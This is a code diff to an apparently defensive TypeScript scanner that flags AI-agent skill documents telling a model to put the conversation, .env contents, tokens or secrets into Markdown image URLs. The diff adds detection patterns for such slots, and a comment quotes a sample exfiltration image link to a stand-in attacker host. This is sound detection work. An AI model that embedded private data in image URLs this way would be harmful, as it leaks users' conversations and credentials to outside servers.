@@ -1,16 +1,20 @@
 import type { AgentFinding, Severity } from '@vigil/core';
-import { DESTRUCTIVE_COMMAND, DISABLE_SAFETY_RULE, prohibitedAt } from '../text/destructive-commands.js';
+import { DESTRUCTIVE_COMMAND, DISABLE_SAFETY_RULE, describedAt, prohibitedAt } from '../text/destructive-commands.js';
 import { referenceFinding } from '../common/reference-finding.js';
 import { projectFormatterHook } from '../text/formatter-hook.js';
 import { lineLocator } from '../text/line-locator.js';
 import { isQuotedExample } from '../text/quoted-example.js';
 import { describedAsAttack } from './agent-action-findings.js';
+import { assembledImageUrlFindings, inlineImageReferences } from './image-exfiltration.js';
 
 // Data a Markdown image URL should never carry: what the model has read or been told.
 const SENSITIVE = /conversation|chat|history|transcript|prompt|context|memory|secret|token|api[_-]?key|\bkey\b|password|passwd|credential|\benv\b|environment|cookie|session|ssh|private|summary|data|content|messages|user[_ ]?(?:input|data|info|query|request)|file[_ ]?contents?|code|diff|answer|response|query/i;
 const STRONGLY_SENSITIVE = /conversation|chat|history|transcript|system[_ ]?prompt|memory|secret|token|api[_-]?key|password|passwd|credential|\benv\b|environment|cookie|ssh|private/i;
 // `![alt](https://…)` and `<img src="https://…">`.
-const MD_IMAGE = /!\[[^\]\n]*\]\(\s*<?(https?:\/\/[^\s)>]+)|<img\b[^>\n]*?\bsrc\s*=\s*["']?(https?:\/\/[^\s"'>]+)/gi;
+// A slot described in words (`{contents of .env, base64}`, `<the user's last messages>`) is part of the address.
+const MD_IMAGE = /!\[[^\]\n]*\]\(\s*<?(https?:\/\/(?:[^\s)>{<]|\{[^}\n]{0,80}\}|<[^>\n]{0,80}>)+)|<img\b[^>\n]*?\bsrc\s*=\s*["']?(https?:\/\/(?:[^\s"'>{<]|\{[^}\n]{0,80}\}|<[^>\n]{0,80}>)+)/gi;
+// What a slot's own words say it holds: the conversation, what the user said, secrets.
+const SLOT_NAMES_PRIVATE = /conversation|chat|history|transcript|\bmessages?\b|\bprompts?\b|\bsaid\b|discussed|(?:^|[\s`'"(/~])\.env\b|secret|token|api[\s_-]?key|password|credential|environment|cookie|\bssh\b|private|system\s+prompt/i;
 // A plain link or a reference definition (`[x]: https://…`) needs a click or an image to use it: a slot
 // in it that names the conversation or secrets is still reported, one severity lower.
 const MD_LINK = /(?<!!)\[[^\]\n]*\]\(\s*<?(https?:\/\/[^\s)>]+)|^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(https?:\/\/[^\s>]+)/gim;
@@ -167,8 +171,10 @@ const FAMILIES: readonly PhraseFamily[] = [
  * or memory (persistence), and the phrased families of the skill taxonomies (trust in fetched content,
  * unlimited autonomy, capability inflation, false authority, package index redirection).
  */
-export function skillDocumentFindings(text: string, file: string): AgentFinding[] {
+export function skillDocumentFindings(source: string, file: string): AgentFinding[] {
   const findings: AgentFinding[] = [];
+  // Reference-style images (`![x][ref]`, `[ref]: url`) are read as inline images, on their own lines.
+  const text = inlineImageReferences(source);
   const lineAt = lineLocator(text);
   const at = (offset: number, evidence: string) => ({ file, line: lineAt(offset), evidence: evidence.slice(0, 300) });
 
@@ -182,6 +188,8 @@ export function skillDocumentFindings(text: string, file: string): AgentFinding[
       if (STRONGLY_SENSITIVE.test(name)) worst = 'CRIT';
       else if (inQuery && (SENSITIVE.test(name) || name === '%s') && worst === null) worst = 'HIGH';
     }
+    // A slot described in words names its source itself: `<the user's last three messages>`, `{contents of .env}`.
+    for (const slot of query.matchAll(/\{([^}\n]{1,80})\}|<([^>\n]{1,80})>/g)) if (SLOT_NAMES_PRIVATE.test(slot[1] ?? slot[2] ?? '')) worst = 'CRIT';
     if (worst === null) continue;
     // A guidance text quoting the attack's shape (`![img](https://attacker.example/?q={secrets})` in a
     // table of injection examples) is lowered like the quoted phrases beside it (isQuotedExample).
@@ -232,6 +240,8 @@ export function skillDocumentFindings(text: string, file: string): AgentFinding[
     if (/\b(?:never|don['’]t|do\s+not|must\s+not|should\s+not|avoid)\b/i.test(joined.slice(sentenceStart, m.index))) continue;
     findings.push(referenceFinding({ category: 'exfiltration', severity: 'HIGH', title: 'instruction to put the conversation or secrets into an image URL', ...at(m.index, m[0]) }));
   }
+  // The address assembled in prose over several steps, then shown as an image.
+  if (!findings.some((f) => f.category === 'exfiltration')) findings.push(...assembledImageUrlFindings(text, file));
   // The order to put the conversation or secrets into an image URL and an image whose slot the
   // model is to fill are the whole chain in one document: rendering the image sends the data
   // (in-sample: found WARN-only on held-out set 7).
@@ -276,7 +286,7 @@ export function skillDocumentFindings(text: string, file: string): AgentFinding[
     if (m && family.id === 'index-config' && describedAsAttack(text, m.index)) continue;
     // Destructive orders and switched-off checks: the first one that is not a prohibition ("never run `git push --force`").
     if (family.id === 'destructive' || family.id === 'disable-safety') {
-      const order = [...text.matchAll(new RegExp(family.pattern.source, `${family.pattern.flags.replace('g', '')}g`))].find((x) => !prohibitedAt(text, x.index));
+      const order = [...text.matchAll(new RegExp(family.pattern.source, `${family.pattern.flags.replace('g', '')}g`))].find((x) => !prohibitedAt(text, x.index) && !(family.id === 'disable-safety' && describedAt(text, x.index)));
       if (order !== undefined) findings.push(referenceFinding({ category: family.category, severity: family.severity, title: family.title, ...at(order.index, order[0]) }));
       continue;
     }
